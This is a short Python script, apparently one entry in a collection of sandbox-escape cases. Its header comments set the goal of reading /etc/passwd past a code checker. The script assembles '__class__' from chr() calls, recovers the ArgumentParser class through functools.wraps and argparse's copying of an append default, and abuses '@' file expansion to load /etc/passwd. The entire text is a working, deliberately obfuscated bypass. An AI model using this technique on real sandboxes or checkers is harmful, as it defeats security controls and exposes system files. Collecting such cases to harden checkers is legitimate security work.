# source: CPython Objects/classobject.c method_reduce (a bound method copies as getattr(obj, func.__name__)); Lib/argparse.py _copy_items (copy.copy of an append action's default); Lib/functools.py update_wrapper (copies __name__ from any object)
# family: copy.copy of a renamed bound method = getattr by run-time name -> class object handed back -> ArgumentParser positional fromfile_prefix_chars
# goal: reads /etc/passwd (argparse @file expansion) through a class object the check never sees as a value
import argparse, functools
s = chr(95) * 2 + "class" + chr(95) * 2
ns = argparse.Namespace(__name__=s)


class P(argparse.ArgumentParser):
    @functools.wraps(ns)
    def m(self):
        return 1

    @classmethod
    def append(cls, v):
        return None


c = P()
q = argparse.ArgumentParser()
q.add_argument("--x", action="append", default=c.m)
K = q.parse_args(["--x", "1"]).x
print("class:", K)
at = chr(64)
p = K("prog", None, None, None, [], argparse.HelpFormatter, "-", at)
p.add_argument("rest", nargs="*")
path = at + chr(47) + "etc" + chr(47) + "passwd"
print(p.parse_args([path]).rest[:5])
